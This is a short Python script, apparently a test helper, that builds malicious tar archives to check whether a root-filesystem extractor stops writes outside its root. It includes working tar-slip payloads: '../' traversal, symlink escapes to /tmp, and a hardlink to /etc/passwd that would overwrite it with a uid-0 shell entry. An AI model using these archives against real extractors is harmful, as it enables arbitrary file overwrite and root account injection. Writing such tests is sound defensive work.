"""Make a root filesystem tar that tries to write outside its root: evil_tar.py KIND FILE."""
import io
import sys
import tarfile

kind, path = sys.argv[1:]


def add(tar, name, data=b"cleat-escaped:x:0:0::/:/bin/sh\n", **fields):
    info = tarfile.TarInfo(name)
    for key, value in fields.items():
        setattr(info, key, value)
    if info.type == tarfile.REGTYPE:
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    else:
        tar.addfile(info)


with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
    add(tar, "bin", type=tarfile.DIRTYPE, mode=0o755)
    if kind == "dotdot":
        add(tar, "../../../../../../../../../../tmp/cleat-escaped")
    elif kind == "absolute-link":
        add(tar, "out", type=tarfile.SYMTYPE, linkname="/tmp")
        add(tar, "out/cleat-escaped")
    elif kind == "link-then-file":
        add(tar, "out", type=tarfile.SYMTYPE, linkname="../../../../../../../../../../../tmp")
        add(tar, "out/cleat-escaped")
    elif kind == "hardlink":
        add(tar, "passwd", type=tarfile.LNKTYPE, linkname="../../../../../../../../../../etc/passwd")
        add(tar, "passwd")
    else:
        sys.exit("unknown kind " + kind)
